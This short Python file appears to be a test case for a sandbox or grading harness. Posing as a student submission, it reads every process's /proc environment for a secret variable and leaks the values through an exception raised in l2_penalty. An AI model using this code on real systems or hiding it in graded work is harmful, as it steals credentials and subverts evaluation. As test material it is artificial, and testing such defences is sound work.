"""The environments of the parent and of every other process are searched for secrets.

Family: read what it shouldn't
Base: student
Score: 0
Effects: reading
Process: succeeds: reading
"""

import contextlib
import os
from pathlib import Path

found = []
for process in [Path("/proc", str(os.getppid())), *Path("/proc").glob("[0-9]*")]:
    with contextlib.suppress(OSError):
        for variable in (process / "environ").read_bytes().split(b"\0"):
            if variable.startswith(b"@SECRET@="):
                found.append(variable.decode())


def l2_penalty(w):
    raise ValueError(" ".join(found))
